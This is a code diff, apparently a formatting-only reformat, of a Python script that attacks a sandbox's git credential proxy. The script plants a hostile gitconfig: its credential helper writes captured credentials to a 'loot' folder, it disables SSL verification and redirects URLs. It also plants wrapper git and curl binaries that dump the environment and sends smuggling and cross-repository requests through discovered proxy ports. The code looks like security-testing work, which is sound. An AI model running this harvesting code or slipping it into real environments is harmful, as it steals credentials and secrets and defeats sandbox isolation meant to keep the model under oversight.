@@ -37,21 +37,23 @@ def write_hooks(folder):
     for name in HOOKS:
         path = os.path.join(folder, name)
         with open(path, "w") as handle:
-            handle.write(f"#!/bin/sh\nexec python3 {os.path.abspath(__file__)} hook {name} \"$@\"\n")
+            handle.write(f'#!/bin/sh\nexec python3 {os.path.abspath(__file__)} hook {name} "$@"\n')
         os.chmod(path, 0o755)
 
 
 def gitconfig(port, url):
-    return (f"[http]\n\tproxy = http://127.0.0.1:{port}\n\textraHeader = X-Evil: 1\n\tsslVerify = false\n"
-            f"[http \"{url}\"]\n\tproxy = http://127.0.0.1:{port}\n"
-            f"[http \"https://*.invalid\"]\n\tproxy = http://127.0.0.1:{port}\n"
-            f"[url \"http://127.0.0.1:{port}/\"]\n\tinsteadOf = https://\n\tinsteadOf = http://\n"
-            f"[url \"http://127.0.0.1:{port}/exact/\"]\n\tinsteadOf = {url}\n"
-            f"[credential]\n\thelper = \"!f() {{ cat >> {LOOT}/helper.txt; }}; f\"\n"
-            f"[core]\n\thooksPath = {HOME}/evilhooks\n\tsshCommand = touch {LOOT}/ssh\n"
-            f"[init]\n\ttemplateDir = {HOME}/template\n"
-            f"[trace2]\n\teventTarget = {LOOT}/trace2-event.json\n\tnormalTarget = {LOOT}/trace2-normal.txt\n"
-            f"\tconfigParams = *\n\tenvVars = *\n")
+    return (
+        f"[http]\n\tproxy = http://127.0.0.1:{port}\n\textraHeader = X-Evil: 1\n\tsslVerify = false\n"
+        f'[http "{url}"]\n\tproxy = http://127.0.0.1:{port}\n'
+        f'[http "https://*.invalid"]\n\tproxy = http://127.0.0.1:{port}\n'
+        f'[url "http://127.0.0.1:{port}/"]\n\tinsteadOf = https://\n\tinsteadOf = http://\n'
+        f'[url "http://127.0.0.1:{port}/exact/"]\n\tinsteadOf = {url}\n'
+        f'[credential]\n\thelper = "!f() {{ cat >> {LOOT}/helper.txt; }}; f"\n'
+        f"[core]\n\thooksPath = {HOME}/evilhooks\n\tsshCommand = touch {LOOT}/ssh\n"
+        f"[init]\n\ttemplateDir = {HOME}/template\n"
+        f"[trace2]\n\teventTarget = {LOOT}/trace2-event.json\n\tnormalTarget = {LOOT}/trace2-normal.txt\n"
+        f"\tconfigParams = *\n\tenvVars = *\n"
+    )
 
 
 def plant(port, url):
@@ -68,8 +70,7 @@ def plant(port, url):
     for name in ("git", "git-remote-https", "git-remote-http", "curl"):
         path = os.path.join(bindir, name)
         with open(path, "w") as handle:
-            handle.write(f"#!/bin/sh\n{{ echo \"{name} $*\"; env; }} >> {LOOT}/wrapper.txt\n"
-                         f"exec /usr/bin/{name} \"$@\"\n")
+            handle.write(f'#!/bin/sh\n{{ echo "{name} $*"; env; }} >> {LOOT}/wrapper.txt\nexec /usr/bin/{name} "$@"\n')
         os.chmod(path, 0o755)
 
 
@@ -91,6 +92,7 @@ def poison(repo, port, url):
 
 
 # -- attacks on the call's proxy port -----------------------------------------------------------
+
 
 def request(port, connect_to, raw, tls=True):
     """Send `raw` through the proxy at `port` (inside CONNECT `connect_to` when tls); the answer."""
@@ -121,8 +123,9 @@ def request(port, connect_to, raw, tls=True):
             if not data:
                 break
             answer += data
-            if b"\r\n\r\n" in answer and (b"Connection: close" in answer or b"0\r\n\r\n" in answer
-                                          or re.search(rb"Content-Length: 0\r\n", answer)):
+            if b"\r\n\r\n" in answer and (
+                b"Connection: close" in answer or b"0\r\n\r\n" in answer or re.search(rb"Content-Length: 0\r\n", answer)
+            ):
                 break
         return answer
     finally:
@@ -133,19 +136,31 @@ def attack(port, authority, path, label):
     """Everything one connection to the proxy can try; the answers go to the loot."""
     base = path.rstrip("/")
     tries = {
-        "same-repo": (authority, f"GET {base}/info/refs?service=git-upload-pack HTTP/1.1\r\nHost: {authority}\r\n"
-                                 "Authorization: Basic Zm9vOmJhcg==\r\nConnection: close\r\n\r\n"),
-        "other-service": (authority, f"GET {base}/info/refs?service=git-receive-pack HTTP/1.1\r\nHost: x\r\n"
-                                     "Connection: close\r\n\r\n"),
-        "other-repo": (authority, "GET /other.git/info/refs?service=git-upload-pack HTTP/1.1\r\nHost: x\r\n"
-                                  "Connection: close\r\n\r\n"),
+        "same-repo": (
+            authority,
+            f"GET {base}/info/refs?service=git-upload-pack HTTP/1.1\r\nHost: {authority}\r\n"
+            "Authorization: Basic Zm9vOmJhcg==\r\nConnection: close\r\n\r\n",
+        ),
+        "other-service": (
+            authority,
+            f"GET {base}/info/refs?service=git-receive-pack HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",
+        ),
+        "other-repo": (
+            authority,
+            "GET /other.git/info/refs?service=git-upload-pack HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",
+        ),
         "trace-method": (authority, f"TRACE {base}/info/refs?service=git-upload-pack HTTP/1.1\r\nHost: x\r\n\r\n"),
         "dumb-http": (authority, f"GET {base}/HEAD HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"),
-        "smuggle": (authority, f"POST {base}/git-upload-pack HTTP/1.1\r\nHost: x\r\nContent-Length: 4\r\n"
-                               "Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n"),
+        "smuggle": (
+            authority,
+            f"POST {base}/git-upload-pack HTTP/1.1\r\nHost: x\r\nContent-Length: 4\r\n"
+            "Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
+        ),
         "other-host": ("example.invalid:443", "GET / HTTP/1.1\r\nHost: example.invalid\r\n\r\n"),
-        "absolute-form": (None, f"GET http://{authority}{base}/info/refs?service=git-upload-pack HTTP/1.1\r\n"
-                                f"Host: {authority}\r\n\r\n"),
+        "absolute-form": (
+            None,
+            f"GET http://{authority}{base}/info/refs?service=git-upload-pack HTTP/1.1\r\nHost: {authority}\r\n\r\n",
+        ),
     }
     answers = []
     for name, (connect_to, raw) in tries.items():
@@ -166,6 +181,7 @@ def proxy_ports(blob, evil):
 
 
 # -- modes -------------------------------------------------------------------------------------
+
 
 def listen(port, hits):
     server = socket.socket()
@@ -218,7 +234,9 @@ def scan(port, authority, path):
                         saw_git = True
                     for found in proxy_ports(data, port) - attacked:
                         attacked.add(found)
-                        threading.Thread(target=attack, args=(found, authority, path, f"scan-{found}"), daemon=True).start()
+                        threading.Thread(
+                            target=attack, args=(found, authority, path, f"scan-{found}"), daemon=True
+                        ).start()
         for name in glob.glob("/tmp/*") + glob.glob("/tmp/.*"):
             try:
                 if os.path.isfile(name) and os.path.getsize(name) < 1_000_000:
@@ -243,8 +261,19 @@ def scan(port, authority, path):
             hooks = sorted(set(handle.read().split()))
     except OSError:
         hooks = []
-    loot("report.json", json.dumps({"saw_git": saw_git, "proxy_ports": sorted(attacked), "hooks": hooks,
-                                    "proxy_answers": answers, "listener_hits": len(hits)}), "wb")
+    loot(
+        "report.json",
+        json.dumps(
+            {
+                "saw_git": saw_git,
+                "proxy_ports": sorted(attacked),
+                "hooks": hooks,
+                "proxy_answers": answers,
+                "listener_hits": len(hits),
+            }
+        ),
+        "wb",
+    )
     loot("state", "stopped\n", "wb")
 
 
@@ -278,8 +307,13 @@ def hook(name):
         attack(found, authority, path, f"hook-{name}-{found}")
     if aliases:
         # The sandbox's own git through the proxy, tracing every header that comes back.
-        env = {**os.environ, "GIT_TRACE_CURL": f"{LOOT}/curl-{name}.txt", "GIT_TRACE_REDACT": "0",
-               "GIT_TRACE": f"{LOOT}/trace-{name}.txt", "GIT_TRACE_PACKET": f"{LOOT}/packet-{name}.txt"}
+        env = {
+            **os.environ,
+            "GIT_TRACE_CURL": f"{LOOT}/curl-{name}.txt",
+            "GIT_TRACE_REDACT": "0",
+            "GIT_TRACE": f"{LOOT}/trace-{name}.txt",
+            "GIT_TRACE_PACKET": f"{LOOT}/packet-{name}.txt",
+        }
         result = subprocess.run(["git", "ls-remote", aliases[0]], env=env, capture_output=True, timeout=60)
         loot(f"ls-remote-{name}.txt", result.stdout + result.stderr)
 
